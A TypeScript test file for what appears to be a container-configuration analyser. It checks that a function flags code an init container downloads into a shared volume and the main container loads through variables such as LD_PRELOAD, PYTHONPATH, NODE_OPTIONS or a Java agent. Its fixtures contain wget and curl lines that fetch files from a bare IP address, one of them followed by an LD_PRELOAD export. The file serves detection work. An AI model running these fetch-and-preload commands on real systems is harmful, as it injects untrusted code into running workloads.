import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CommandFact } from '../model/facts.ts';
import { effectsOf } from './effects.ts';
import { LOADING } from './loaded-variables.ts';

const command = (container: string, script: string, role: CommandFact['role'] = 'container'): CommandFact => ({
  container,
  role,
  pointer: `/${container}`,
  carrier: 'command',
  argv: ['sh', '-c', script],
  entrypoint: null,
  shown: script,
  script,
});
const mounts = ['first', 'main'].map((container) => ({ container, volume: 'lib', mountPath: '/lib1', subPath: null }));

/** How often a download runs that an init container brings, with one variable of the main one. */
const runs = (fetch: string, name: string, value: string, container = 'main'): number =>
  effectsOf({
    commands: [command('first', fetch, 'init'), command('main', 'date; app')],
    hostPaths: [],
    environment: [{ container, name, value }],
    mounts,
  }).filter(({ kind }) => kind === 'execute').length;

const VALUES: Record<string, readonly [file: string, value: string]> = {
  LD_PRELOAD: ['a.so', '/usr/lib/x.so:/lib1/a.so'],
  LD_AUDIT: ['a.so', '/lib1/a.so'],
  LD_LIBRARY_PATH: ['libz.so.1', '/usr/lib:/lib1'],
  GCONV_PATH: ['a.so', '/lib1'],
  PYTHONSTARTUP: ['a.py', '/lib1/a.py'],
  PYTHONPATH: ['sitecustomize.py', '/lib1'],
  PERL5LIB: ['strict.pm', '/lib1'],
  RUBYOPT: ['a.rb', '-W0 -r/lib1/a'],
  NODE_OPTIONS: ['a.js', '--max-old-space-size=512 --require /lib1/a.js'],
  DOTNET_STARTUP_HOOKS: ['a.dll', '/lib1/a.dll'],
  CORECLR_PROFILER_PATH: ['a.so', '/lib1/a.so'],
};
for (const name of LOADING.keys()) {
  const [file, value] = VALUES[name] ?? ['a.jar', '-Xmx1g -javaagent:/lib1/a.jar=x'];
  const fetch = `wget -qO /lib1/${file} http://203.0.113.7/${file}`;
  test(`${name} names a file that another container brought`, () => assert.equal(runs(fetch, name, value), 1));
  test(`${name} of the container that brought it`, () => assert.equal(runs(fetch, name, value, 'first'), 0));
  test(`${name} names a file of the image`, () =>
    assert.equal(runs(fetch, name, value.replaceAll('/lib1', '/opt')), 0));
  test(`${name} names a file that nobody brought`, () => assert.equal(runs('date', name, value), 0));
}

for (const [situation, url, wanted] of [
  ['a release of a project', 'https://repo.example.org/agent/1.32.0/agent.jar', 0],
  ['without a version', 'https://files.example.org/agent.jar', 1],
  ['a version at a bare address', 'https://203.0.113.7/1.32.0/agent.jar', 1],
  ['a version without encryption', 'http://files.example.org/1.32.0/agent.jar', 1],
] as const) {
  test(`an agent of Java that was brought: ${situation}`, () =>
    assert.equal(runs(`curl -so /lib1/a.jar ${url}`, 'JAVA_TOOL_OPTIONS', '-javaagent:/lib1/a.jar'), wanted));
}
for (const [situation, name, value] of [
  ['data beside a path of libraries', 'LD_LIBRARY_PATH', '/lib1'],
  ['data beside a path of modules', 'PYTHONPATH', '/lib1'],
] as const) {
  test(`is not run: ${situation}`, () =>
    assert.equal(runs('curl -so /lib1/rates.csv https://rates.example.org/today.csv', name, value), 0));
}
test('a variable that a command sets before the program', () => {
  const script = 'curl -so /tmp/a.so http://203.0.113.7/a; export LD_PRELOAD=/tmp/a.so; app';
  const effects = effectsOf({ commands: [command('main', script)], hostPaths: [], environment: [], mounts: [] });
  assert.ok(effects.some(({ kind }) => kind === 'execute'));
});
